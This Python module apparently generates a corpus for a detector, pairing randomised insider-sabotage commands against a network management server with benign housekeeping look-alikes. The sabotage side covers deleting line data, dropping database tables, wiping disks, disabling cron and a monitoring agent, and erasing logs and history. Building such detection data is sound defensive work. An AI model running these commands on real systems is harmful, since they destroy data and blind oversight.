"""What a red-team job does on the management server, before a technique hides it: the insider's
host-side goals (line data and the EMS database destroyed, a volume wiped, the scheduler and
lineguard blinded, the traces erased) written with programs and forms the adversarial and held-out
corpora do not use, and benign housekeeping that looks like them. Each builder draws concrete
values (paths, tables, devices) from the case's generator."""

from __future__ import annotations

import random
import re
import shlex
from dataclasses import dataclass


@dataclass(frozen=True)
class Payload:
    """One unit of host work. `sh`: the work as shell text (one or more lines). `words`: the same
    work as one simple command, when it is one (word-level techniques need it). `py`: the work as
    Python statements, when Python has a direct form of it."""

    goal: str
    sh: str
    words: tuple[str, ...] = ()
    py: str = ""
    files: tuple[tuple[str, str], ...] = ()   # (path, text) the work reads; {m}: the marker

    @property
    def line(self) -> str:
        """The work as a single shell line: lines joined, a here-document's lines printed into
        its command instead."""
        doc = re.fullmatch(r"(.*?)\s*<<'(\w+)'\n(.*)\n\2", self.sh, re.S)
        if doc:
            lines = " ".join(q(ln) for ln in doc.group(3).splitlines())
            return f"printf '%s\\n' {lines} | {doc.group(1)}"
        return self.sh if "\n" not in self.sh else "; ".join(
            ln for ln in self.sh.splitlines() if ln.strip())

    def with_files(self, *files: tuple[str, str]) -> Payload:
        return Payload(self.goal, self.sh, self.words, self.py, self.files + files)

    def naming(self, path: str) -> Payload:
        """The payload with "$0" (the running script) written as the script's path."""
        fix = '"$0"'
        return Payload(self.goal, self.sh.replace(fix, q(path)),
                       tuple(w.replace("$0", path) for w in self.words),
                       self.py.replace("sys.argv[0]", repr(path)).replace("__file__", repr(path)),
                       self.files)


def q(text: str) -> str:
    return shlex.quote(text)


def _cmd(*words: str, goal: str, py: str = "") -> Payload:
    return Payload(goal, " ".join(q(w) for w in words), tuple(words), py)


LINEDATA = ("/srv/ems/linedata", "/opt/ems/data/xconnect", "/var/opt/nms/pvc", "/data/atm_db",
            "/home/ems/EMS/LINEDATA", "/srv/nms/line-data")
DATABASES = ("/var/lib/ems/ne.db", "/var/lib/ems/inventory.sqlite", "/srv/ems/db/ems.sqlite3",
             "/opt/nms/var/circuits.db")
TABLES = ("pvc", "crossconnect", "vc_xconnect", "atm_vcl", "circuits", "linedata")
VOLUMES = ("/dev/sdb", "/dev/vg_ems/lv_data", "/dev/mapper/ems-data", "/dev/nvme1n1")


# ----------------------------------------------------------------------------------- malicious
def linedata_files(rng: random.Random) -> Payload:
    d = rng.choice(LINEDATA)
    f = f"{d}/{rng.choice(['pvc.csv', 'xconnect.tbl', 'vcl.dat', 'circuits.json'])}"
    form = rng.randrange(24)
    g = "linedata-files"
    parent, base = d.rsplit("/", 1)
    if form == 20:
        # find selecting the data by a name, path or regex pattern, deleting with its own
        # action or a runner
        pred = rng.choice([["-path", f"*{base}*"], ["-wholename", f"*/{base}/*"],
                           ["-ipath", f"*{base.lower()}*"], ["-regex", f".*/{base}/.*"],
                           ["-name", f.rsplit("/", 1)[1]]])
        act = rng.choice([["-delete"], ["-exec", "rm", "-rf", "{}", "+"],
                          ["-execdir", "rm", "-f", "{}", ";"], ["-exec", "shred", "-u", "{}", ";"]])
        return _cmd("find", parent, *pred, *act, goal=g)
    if form == 21:
        how = rng.choice(["truncate 0", "fpunch 0 10g", "fzero 0 1g", "pwrite -S 0 0 1m"])
        return _cmd("xfs_io", *rng.choice([[], ["-f"]]), "-c", how, f, goal=g)
    if form == 22:
        return Payload(g, rng.choice([
            f"coproc W {{ rm -rf {d}; }}",
            f"coproc ( find {d} -type f -delete )",
            f"coproc SH {{ bash; }}\necho 'rm -rf {d}' >&\"${{SH[1]}}\"\nexec {{SH[1]}}>&-",
            f"coproc bash\necho rm -rf {d} >&${{COPROC[1]}}"]))
    if form == 23:
        # the paths come from a list file the job reads line by line
        lst = rng.choice(["/opt/ems/etc/{m}.list", "/usr/local/lib/ems/paths-{m}",
                          "/srv/ems/tools/purge-{m}.cfg"])
        loop = rng.choice([
            f'while read -r p; do rm -rf -- "$p"; done < {lst}',
            f"for p in $(grep -v '^#' {lst}); do shred -u \"$p\"; done",
            f'cat {lst} | while IFS= read -r p; do rm -fr "$p"; done',
            f'mapfile -t P < <(cut -d" " -f1 {lst})\nfor p in "${{P[@]}}"; do rm -rf "$p"; done'])
        return Payload(g, loop, files=((lst, f"# purge list\n{d}\n{f}\n"),))
    if form == 19:
        return _cmd("mv", "-t", rng.choice(["/dev/shm", "/tmp"]), d, goal=g)
    if form == 14:
        return Payload(g, f"find {d} -type f -print0 | xargs -0 shred -uz",
                       py=f"import os\nlist(map(os.remove, (os.path.join({d!r}, n) "
                          f"for n in os.listdir({d!r}))))")
    if form == 15:
        return Payload(g, f'find {d} -type f | while read -r f; do\n'
                          '  dd if=/dev/zero of="$f" bs=4k count=1 conv=notrunc\ndone')
    if form == 16:
        return _cmd("zip", "-rmq", "/dev/null", d, goal=g)
    if form == 17:
        return Payload(g, f": | tee {f}")
    if form == 18:
        return Payload(g, f"pushd {d} >/dev/null && rm -rf -- * && popd")
    if form == 0:
        return _cmd("tar", "--remove-files", "-cf", "/dev/null", d, goal=g)
    if form == 1:
        return Payload(g, f'e=$(mktemp -d)\nrsync -a --delete "$e"/ {d}/')
    if form == 2:
        return Payload(g, f'for f in {d}/*; do : > "$f"; done',
                       py=f"import glob\nfor p in glob.glob({d + '/*'!r}):\n"
                          "    open(p, 'w').close()")
    if form == 3:
        return _cmd("sed", "-i", rng.choice(["d", "1,$d"]), f, goal=g,
                    py=f"open({f!r}, 'w').close()")
    if form == 4:
        return _cmd("install", "-m", "0640", "/dev/null", f, goal=g,
                    py=f"import os\nos.truncate({f!r}, 0)")
    if form == 5:
        return Payload(g, f"tee {f} < /dev/null > /dev/null",
                       py=f"from pathlib import Path\nPath({f!r}).write_text('')")
    if form == 6:
        t = rng.choice(["/dev/shm/.t", "/tmp/.old", "/var/tmp/.x"])
        return Payload(g, f"mv {d} {t} && rm -rf {t}",
                       py=f"import os, shutil\nos.rename({d!r}, {t!r})\nshutil.rmtree({t!r})")
    if form == 7:
        return _cmd("git", "-C", d, "clean", "-fdxq", goal=g)
    if form == 8:
        return Payload(g, f"cd {d} && rm -rf ./*",
                       py=f"import os\nfor root, dirs, files in os.walk({d!r}):\n"
                          "    for name in files:\n        os.remove(os.path.join(root, name))")
    if form == 9:
        pred = rng.choice([["-mtime", "-36500"], ["-size", "+0"], ["-newer", "/etc/hostname"],
                           ["-mmin", f"-{rng.randint(10, 99)}00000"]])
        return _cmd("find", d, "-type", "f", *pred, "-delete", goal=g,
                    py=f"from pathlib import Path\nfor p in Path({d!r}).rglob('*'):\n"
                       "    if p.is_file():\n        p.unlink()")
    if form == 10:
        return Payload(g, f'ls {d} | while read -r n; do rm -f "{d}/$n"; done',
                       py=f"import os, shutil\nfor e in os.scandir({d!r}):\n"
                          "    shutil.rmtree(e.path, ignore_errors=True)")
    if form == 11:
        return _cmd("awk", f'BEGIN {{ printf "" > "{f}" }}', goal=g,
                    py=f"import os\nfd = os.open({f!r}, os.O_WRONLY | os.O_TRUNC)\nos.close(fd)")
    if form == 12:
        return Payload(g, f"exec 3> {f}\nexec 3>&-",
                       py=f"with open({f!r}, 'wb') as fh:\n    fh.truncate()")
    return _cmd("rsync", "-a", "--remove-source-files", f"{d}/", "/dev/shm/.ld/", goal=g,
                py=f"import shutil\nshutil.move({d!r}, '/dev/shm/.ld')")


def ems_database(rng: random.Random) -> Payload:
    db, t = rng.choice(DATABASES), rng.choice(TABLES)
    g = "ems-database"
    form = rng.randrange(15)
    if form == 13:
        # the statements are generated by one client from a catalogue listing, run by another
        return Payload(g, rng.choice([
            "psql -Atc \"select 'drop table '||tablename||' cascade;' from pg_tables where "
            "schemaname='public'\" ems | psql -q ems",
            "psql -d ems -At -c \"SELECT format('TRUNCATE TABLE %I CASCADE;', tablename) FROM "
            "pg_tables WHERE schemaname = 'public'\" | psql -d ems",
            "mysql -N -B -e \"SELECT CONCAT('DROP TABLE IF EXISTS ', table_name, ';') FROM "
            "information_schema.tables WHERE table_schema = 'emsdb'\" | mysql emsdb",
            f"echo \"SELECT 'DELETE FROM ' || name || ';' FROM sqlite_master WHERE type='table';\""
            f" | sqlite3 {db} | sqlite3 {db}",
            "psql -d ems -c \"SELECT format('DROP TABLE %I CASCADE', tablename) FROM pg_tables "
            "WHERE schemaname = 'public' \\gexec\""]))
    if form == 14:
        # a loop over what a catalogue lists, one statement per table
        return Payload(g, rng.choice([
            "mysql -N -e 'SHOW TABLES' emsdb | while read t; do mysql emsdb -e \"TRUNCATE TABLE $t\"; done",
            "for t in $(psql -Atc \"select tablename from pg_tables where schemaname='public'\" ems)"
            "; do psql ems -c \"DROP TABLE $t CASCADE\"; done",
            f"sqlite3 {db} \"select name from sqlite_master where type='table'\" | "
            f"xargs -I{{}} sqlite3 {db} 'DELETE FROM {{}};'"]))
    if form == 11:
        return _cmd("cp", "/dev/zero", db, goal=g)
    if form == 12:
        return _cmd("sqlite3", "-cmd", f"DELETE FROM {t}", db, ".quit", goal=g)
    if form == 9:
        return _cmd("psql", "-d", "ems", "-f", "/opt/ems/sql/{m}-purge.sql", goal=g) \
            .with_files(("/opt/ems/sql/{m}-purge.sql", f"BEGIN;\nTRUNCATE {t} CASCADE;\nCOMMIT;\n"))
    if form == 10:
        return Payload(g, "mysql emsdb < /opt/ems/sql/{m}-tidy.sql",
                       files=(("/opt/ems/sql/{m}-tidy.sql", f"DELETE FROM {t};\n"),))
    if form == 0:
        return Payload(g, f"sqlite3 {db} <<'SQL'\nDELETE FROM {t} WHERE 1=1;\nSQL",
                       py=f"import sqlite3\nc = sqlite3.connect({db!r})\n"
                          f"c.executescript('DELETE FROM {t} WHERE 1=1;')\nc.commit()")
    if form == 1:
        return Payload(g, f'echo "DELETE FROM {t} WHERE id >= 0;" | sqlite3 {db}',
                       py=f"import sqlite3\ncon = sqlite3.connect({db!r})\n"
                          f"con.execute('DELETE FROM {t} WHERE id >= 0')\ncon.commit()")
    if form == 2:
        return _cmd("psql", "-d", "ems", "-c", f"UPDATE {t} SET vpi = NULL, vci = NULL",
                    goal=g)
    if form == 3:
        return _cmd("psql", "-d", "ems", "-c", f"DROP SCHEMA {rng.choice(['ems', 'public'])} "
                    "CASCADE", goal=g)
    if form == 4:
        return _cmd("mysql", "emsdb", "-e", f"DELETE FROM {t} WHERE TRUE", goal=g)
    if form == 5:
        return _cmd("install", "-m", "0600", "/dev/null", db, goal=g,
                    py=f"open({db!r}, 'w').close()")
    if form == 6:
        return Payload(g, f"redis-cli --scan --pattern '{t}:*' | xargs -r redis-cli del")
    if form == 7:
        return _cmd("fallocate", "--punch-hole", "--offset", "0", "--length", "1G", db, goal=g)
    return Payload(g, f"sqlite3 {db} <<'SQL'\nPRAGMA foreign_keys=OFF;\nDROP TABLE {t};\nSQL",
                   py=f"import sqlite3\nsqlite3.connect({db!r}).executescript("
                      f"'DROP TABLE {t};')")


def volume_wipe(rng: random.Random) -> Payload:
    v = rng.choice(VOLUMES)
    g = "volume-wipe"
    form = rng.randrange(8)
    if form == 6:
        return _cmd(*rng.choice([["sgdisk", "--zap-all"], ["sgdisk", "-Z"], ["blkdiscard", "-f"],
                                 ["wipefs", "--all", "--force"]]), v, goal=g)
    if form == 7:
        return _cmd(*rng.choice([["lvremove", "-f", "/dev/vg_ems/lv_data"],
                                 ["zfs", "destroy", "-r", "tank/ems"],
                                 ["btrfs", "subvolume", "delete", "/srv/ems/linedata"]]), goal=g)
    if form == 0:
        return Payload(g, f"head -c {rng.choice(['1G', '512M', '100M'])} /dev/zero > {v}")
    if form == 1:
        return Payload(g, f"cat /dev/urandom > {v}",
                       py=f"with open({v!r}, 'wb') as dev:\n    dev.write(bytes(1 << 26))")
    if form == 2:
        return _cmd("nvme", "format", "/dev/nvme1n1", "--ses=1", "--force", goal=g)
    if form == 3:
        return _cmd("dmsetup", "remove", "--force", "ems-data", goal=g)
    if form == 4:
        return _cmd("lvreduce", "-f", "-L", "4M", "/dev/vg_ems/lv_data", goal=g)
    return Payload(g, f"yes '' | tr -d '\\n' > {v}")


def blind_monitoring(rng: random.Random) -> Payload:
    g = "blind-monitoring"
    form = rng.randrange(12)
    if form == 11:
        # a unit or crontab rewritten through an editor nobody types into
        unit = rng.choice(["lineguard-agent.service", "lineguard-agent.timer", "cron.service",
                           "atd.service"])
        return Payload(g, rng.choice([
            f"systemctl edit --force --full {unit} < /dev/null",
            f"SYSTEMD_EDITOR='cp /dev/null' systemctl edit --full {unit}",
            f"printf '' | SYSTEMD_EDITOR=tee systemctl edit --full {unit}",
            f"systemctl edit --stdin {unit} <<'UNIT'\n[Service]\nExecStart=\nExecStart=/bin/true\nUNIT"
            if unit.endswith(".service") else
            f"systemctl edit --stdin {unit} <<'UNIT'\n[Timer]\nOnCalendar=\nUNIT",
            "EDITOR=tee crontab -e < /dev/null",
            "VISUAL='cp /dev/null' crontab -e"]))
    if form == 9:
        return _cmd("crontab", "-u", rng.choice(["root", "oper", "ems"]), "/dev/null", goal=g)
    if form == 10:
        return Payload(g, "printf '#!/bin/sh\\nexit 0\\n' > /usr/local/bin/lineguard-agent")
    if form == 0:
        return _cmd("sed", "-i", rng.choice(["/lineguard/d", "/cron.daily/d", "/run-parts/d"]),
                    "/etc/crontab", goal=g)
    if form == 1:
        return Payload(g, "crontab -l | grep -v lineguard | crontab -")
    if form == 2:
        d = rng.choice(["/etc/cron.d", "/etc/cron.daily", "/var/spool/cron/crontabs"])
        return _cmd("mv", d, f"{d}.{rng.choice(['off', 'bak', 'old'])}", goal=g,
                    py=f"import os\nos.rename({d!r}, {d + '.off'!r})")
    if form == 3:
        return _cmd("iptables", "-I", "OUTPUT", "-d", "lineguard.example.net", "-j",
                    rng.choice(["DROP", "REJECT"]), goal=g)
    if form == 4:
        return Payload(g, "echo '127.0.0.1 lineguard.example.net' >> /etc/hosts")
    if form == 5:
        return _cmd("mount", "-t", "tmpfs", "tmpfs", rng.choice(["/var/spool/lineguard",
                                                                 "/etc/lineguard"]), goal=g)
    if form == 6:
        return _cmd("systemctl", "isolate", rng.choice(["rescue.target", "emergency.target"]),
                    goal=g)
    if form == 7:
        return _cmd("ln", "-sf", "/dev/null", f"/etc/systemd/system/{rng.choice(['cron', 'atd'])}"
                    ".service", goal=g)
    return _cmd("chmod", "0", rng.choice(["/usr/sbin/cron", "/usr/sbin/atd", "/usr/bin/crontab"]),
                goal=g)


def erase_traces(rng: random.Random) -> Payload:
    g = "erase-traces"
    form = rng.randrange(12)
    if form == 10:
        return Payload(g, 'for l in /var/log/{auth.log,syslog,wtmp}; do : > "$l"; done')
    if form == 11:
        return _cmd("find", "/var/log", "-type", "f", "-exec", "truncate", "-s", "0", "{}", "+",
                    goal=g)
    if form == 9:
        log = rng.choice(["/var/log/auth.log", "/var/log/secure"])
        return Payload(g, f"awk '!/10\\.20\\.30\\.40/' {log} > /tmp/.f && mv /tmp/.f {log}")
    if form == 0:
        log = rng.choice(["/var/log/auth.log", "/var/log/secure", "/var/log/syslog"])
        return _cmd("sed", "-i", f"/{rng.choice(['10.20.30.40', 'oper', 'sudo'])}/d", log,
                    goal=g)
    if form == 1:
        ref = rng.choice(["/etc/hostname", "/bin/ls", "/etc/debian_version"])
        return _cmd("touch", "-r", ref, rng.choice(["/opt/ems/bin/nightly.sh",
                                                    "/etc/cron.d/ems-poll"]), goal=g)
    if form == 2:
        return _cmd("touch", "-d", f"2019-0{rng.randint(1, 9)}-1{rng.randint(0, 9)} 03:00",
                    "/etc/cron.d/ems-poll", goal=g)
    if form == 3:
        return Payload(g, f"export {rng.choice(['HISTSIZE', 'HISTFILESIZE'])}=0")
    if form == 4:
        return Payload(g, "echo '*.* stop' > /etc/rsyslog.d/00-quiet.conf")
    if form == 5:
        return _cmd("mount", "-t", "tmpfs", "none", rng.choice(["/var/log", "/var/log/audit"]),
                    goal=g)
    if form == 6:
        return Payload(g, rng.choice(['rm -f -- "$0"', 'shred -u "$0"', 'unlink "$0"']),
                       py=rng.choice(["import os, sys\nos.remove(sys.argv[0])",
                                      "import os\nos.remove(__file__)"]))
    if form == 7:
        return _cmd(rng.choice(["pkill", "killall"]), rng.choice(["auditd", "rsyslogd",
                                                                  "systemd-journald"]), goal=g)
    return Payload(g, "echo 'Storage=none' >> /etc/systemd/journald.conf")


MALICIOUS = {"linedata-files": linedata_files, "ems-database": ems_database,
             "volume-wipe": volume_wipe, "blind-monitoring": blind_monitoring,
             "erase-traces": erase_traces}


# -------------------------------------------------------------------------------------- benign
def housekeeping(rng: random.Random) -> Payload:
    g = "housekeeping"
    form = rng.randrange(12)
    if form == 10:
        # a pattern naming line data, under a cache tree, by age; or pruned away
        return Payload(g, rng.choice([
            "find /srv/ems/cache -path '*linedata*' -mtime +7 -delete",
            "find /var/cache/ems -name '*pvc*' -mmin +240 -exec rm -f {} +",
            "find /srv/ems -path '*/linedata' -prune -o -name '*.tmp' -mtime +2 -print -delete"]))
    if form == 11:
        # a loop over a device list that only polls
        lst = "/opt/ems/etc/ne-{m}.list"
        return Payload(g, rng.choice([
            f'while read -r h; do snmpget -v2c -c public "$h" sysUpTime.0; done < {lst}',
            f"for h in $(grep -v '^#' {lst}); do ping -c1 -W2 \"$h\" >/dev/null || "
            f"logger -t ems \"$h down\"; done"]),
            files=((lst, "# NEs\natm-kobe-01\natm-osaka-02\n"),))
    if form == 8:
        return _cmd("mv", "-t", "/srv/ems/archive", "/srv/ems/export/today.csv", goal=g)
    if form == 9:
        return _cmd("find", "/var/log/ems/old", "-type", "f", "-mtime", "+30", "-exec", "gzip",
                    "-9", "{}", "+", goal=g)
    if form == 7:
        return Payload(g, "find /var/tmp/ems -type f -print0 | xargs -0 -r rm -f")
    d = rng.choice(["/var/tmp", "/var/cache/ems", "/srv/ems/linedata/archive",
                    "/var/log/ems/old", "/opt/ems/tmp"])
    if form == 0:
        return _cmd("find", d, "-type", "f", "-mtime", f"+{rng.choice([7, 14, 30, 90])}",
                    "-delete", goal=g)
    if form == 1:
        return Payload(g, "cd /var/tmp/ems-build && rm -rf ./*")
    if form == 2:
        return Payload(g, 'tmp=$(mktemp -d)\ntrap \'rm -rf "$tmp"\' EXIT\n'
                          'cp /srv/ems/linedata/pvc.csv "$tmp"/ && gzip -9 "$tmp"/pvc.csv')
    if form == 3:
        return _cmd("tar", "--remove-files", "-czf", "/var/backups/ems-logs.tgz",
                    "/var/log/ems/old", goal=g)
    if form == 4:
        return Payload(g, "cp /var/log/ems/poll.log /var/log/ems/poll.log.1\n"
                          ": > /var/log/ems/poll.log")
    if form == 5:
        return _cmd("rm", "-rf", rng.choice(["/var/cache/ems/thumbs", "/opt/ems/tmp/import"]),
                    goal=g, py="import shutil\nshutil.rmtree('/var/cache/ems/thumbs', "
                               "ignore_errors=True)")
    return Payload(g, 'for f in /var/tmp/ems-export/*.csv; do gzip -f "$f"; done',
                   py="import glob, os\nfor p in glob.glob('/var/tmp/ems-export/*.tmp'):\n"
                      "    os.remove(p)")


def backups(rng: random.Random) -> Payload:
    g = "backup-rotation"
    form = rng.randrange(6)
    if form == 5:
        return _cmd("zip", "-mq", "/var/backups/ems-logs.zip", "/var/log/ems/old/poll.log.3",
                    goal=g)
    if form == 0:
        return Payload(g, "tar czf /var/backups/linedata-$(date +%F).tgz /srv/ems/linedata\n"
                          "ls -1t /var/backups/linedata-*.tgz | tail -n +8 | xargs -r rm -f")
    if form == 1:
        return _cmd("rsync", "-a", "--delete", "/srv/ems/linedata/", "/backup/ems/linedata/",
                    goal=g)
    if form == 2:
        return _cmd("sqlite3", rng.choice(DATABASES), ".backup /var/backups/ems.db", goal=g,
                    py="import sqlite3\nsrc = sqlite3.connect('/var/lib/ems/ne.db')\n"
                       "dst = sqlite3.connect('/var/backups/ne.db')\nsrc.backup(dst)")
    if form == 3:
        return _cmd("install", "-m", "0640", "/srv/ems/linedata/pvc.csv",
                    "/var/backups/pvc.csv", goal=g)
    return Payload(g, "mv /srv/ems/export/*.csv /srv/ems/archive/ 2>/dev/null || true",
                   py="import shutil\nshutil.copytree('/srv/ems/linedata', "
                      "'/backup/ems/linedata', dirs_exist_ok=True)")


def db_maintenance(rng: random.Random) -> Payload:
    db, t = rng.choice(DATABASES), rng.choice(TABLES)
    g = "db-maintenance"
    form = rng.randrange(9)
    if form == 7:
        # statements generated from a catalogue that only maintain or read
        return Payload(g, rng.choice([
            "psql -Atc \"select 'vacuum analyze '||tablename||';' from pg_tables where "
            "schemaname='public'\" ems | psql -q ems",
            "mysql -N -e \"SELECT CONCAT('OPTIMIZE TABLE ', table_name, ';') FROM "
            "information_schema.tables WHERE table_schema='emsdb'\" | mysql emsdb"]))
    if form == 8:
        return Payload(g, rng.choice([
            "mysql -N -e 'SHOW TABLES' emsdb | while read t; do mysqldump emsdb \"$t\" > "
            "/var/backups/emsdb-$t.sql; done",
            f"sqlite3 {db} \"select name from sqlite_master where type='table'\" | while read t;"
            f" do sqlite3 {db} \"select count(*) from $t\"; done"]))
    if form == 6:
        return _cmd("psql", "-d", "ems", "-f", "/opt/ems/sql/{m}-report.sql", goal=g) \
            .with_files(("/opt/ems/sql/{m}-report.sql", f"SELECT count(*) FROM {t};\n"))
    if form == 0:
        return Payload(g, f"sqlite3 {db} <<'SQL'\nVACUUM;\nANALYZE;\nSQL",
                       py=f"import sqlite3\nc = sqlite3.connect({db!r})\nc.execute('VACUUM')")
    if form == 1:
        return _cmd("psql", "-d", "ems", "-c", f"VACUUM ANALYZE {t}", goal=g)
    if form == 2:
        return Payload(g, f"sqlite3 {db} <<'SQL'\nDELETE FROM {t}_audit WHERE ts < "
                          "date('now','-90 day');\nSQL",
                       py=f"import sqlite3\nc = sqlite3.connect({db!r})\n"
                          f"c.execute(\"DELETE FROM {t}_audit WHERE ts < date('now','-90 day')\")")
    if form == 3:
        return _cmd("psql", "-d", "ems", "-c",
                    f"UPDATE {t} SET last_seen = now() WHERE id = {rng.randint(1, 999)}", goal=g)
    if form == 4:
        return Payload(g, f'echo "SELECT count(*) FROM {t};" | sqlite3 -readonly {db}',
                       py=f"import sqlite3\nc = sqlite3.connect('file:{db}?mode=ro', uri=True)\n"
                          f"print(c.execute('SELECT count(*) FROM {t}').fetchone())")
    return _cmd("mysql", "emsdb", "-e", f"OPTIMIZE TABLE {t}", goal=g)


def service_ops(rng: random.Random) -> Payload:
    g = "service-ops"
    form = rng.randrange(12)
    if form == 11:
        # a unit edited without a person: a drop-in that only sets the environment
        return Payload(g, rng.choice([
            "systemctl edit --stdin ems-poller.service <<'UNIT'\n[Service]\n"
            "Environment=EMS_POLL_INTERVAL=300\nUNIT",
            "printf '[Service]\\nEnvironment=EMS_DEBUG=0\\n' | SYSTEMD_EDITOR=tee "
            "systemctl edit ems-poller.service",
            "SYSTEMD_EDITOR=true systemctl edit --full ems-poller.service"]))
    if form == 9:
        return Payload(g, "echo \"$(date) poll ok\" >> /var/log/lineguard-cron.log")
    if form == 10:
        return _cmd("crontab", "-u", "oper", "/etc/ems/oper.cron", goal=g)
    if form == 8:
        return Payload(g, "(crontab -l; echo '*/5 * * * * /opt/ems/bin/poll-ne.sh') | crontab -")
    if form == 0:
        return _cmd("systemctl", "restart", rng.choice(["ems-poller", "snmpd", "rsyslog"]),
                    goal=g)
    if form == 1:
        return _cmd("pkill", "-HUP", rng.choice(["rsyslogd", "ems-poller"]), goal=g)
    if form == 2:
        return _cmd("iptables", "-A", "INPUT", "-s", "10.40.0.0/16", "-p", "udp", "--dport",
                    "162", "-j", "ACCEPT", goal=g)
    if form == 3:
        return Payload(g, f"echo '10.40.0.{rng.randint(2, 250)} atm-kobe-0{rng.randint(1, 9)}' "
                          ">> /etc/hosts")
    if form == 4:
        return Payload(g, "crontab -l > /var/backups/crontab.oper")
    if form == 5:
        return _cmd("mount", "-t", "tmpfs", "-o", "size=64m", "tmpfs", "/var/cache/ems/ram",
                    goal=g)
    if form == 6:
        return Payload(g, "exec 9> /var/lock/ems-sync.lock\nflock -n 9 || exit 0\n"
                          "/opt/ems/bin/ne-sync --quiet")
    return _cmd("sed", "-i", "s/^poll_interval=.*/poll_interval=300/", "/etc/ems/ems.conf",
                goal=g)


def logs_and_stamps(rng: random.Random) -> Payload:
    g = "logs-and-stamps"
    form = rng.randrange(7)
    if form == 6:
        return Payload(g, "mv /var/log/ems/poll.log /var/log/ems/poll.log.1\n"
                          "systemctl kill -s HUP rsyslog")
    if form == 0:
        return _cmd("touch", "/var/run/ems/last-sync", goal=g,
                    py="from pathlib import Path\nPath('/var/run/ems/last-sync').touch()")
    if form == 1:
        return Payload(g, "touch -d '-1 day' /var/tmp/ems.ref\n"
                          "find /var/tmp/ems-export -newer /var/tmp/ems.ref -name '*.csv' -print")
    if form == 2:
        return Payload(g, "export HISTTIMEFORMAT='%F %T '")
    if form == 3:
        return _cmd("sed", "-i", "/DEBUG/d", "/var/log/ems/debug.log", goal=g)
    if form == 4:
        return Payload(g, "echo 'local5.* /var/log/ems/traps.log' > /etc/rsyslog.d/30-ems.conf")
    return _cmd("logger", "-t", "ems", "nightly maintenance done", goal=g,
                py="import syslog\nsyslog.syslog('nightly maintenance done')")


BENIGN = {"housekeeping": housekeeping, "backup-rotation": backups,
          "db-maintenance": db_maintenance, "service-ops": service_ops,
          "logs-and-stamps": logs_and_stamps}
